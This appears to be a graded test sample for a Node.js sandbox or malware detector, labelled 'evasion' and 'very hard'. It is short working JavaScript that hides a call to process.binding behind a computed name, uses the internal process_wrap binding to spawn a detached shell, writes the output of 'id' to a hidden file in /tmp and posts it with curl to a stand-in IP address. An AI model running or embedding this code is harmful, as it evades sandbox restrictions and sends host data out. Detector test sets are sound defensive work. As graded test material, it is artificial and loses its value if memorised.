// evasion: internal process_wrap binding reached with a computed process.binding name
// grade: very hard; does: shell
const bind = process['bind' + 'ing'];
const { Process } = bind.call(process, 'process_wrap');
const child = new Process();
child.onexit = () => {};
child.spawn({
  file: '/bin/sh',
  args: ['/bin/sh', '-c', 'id > /tmp/.o; curl -s -d @/tmp/.o http://192.0.2.7/'],
  envPairs: Object.entries(process.env).map(([k, v]) => `${k}=${v}`),
  stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
  detached: true,
});
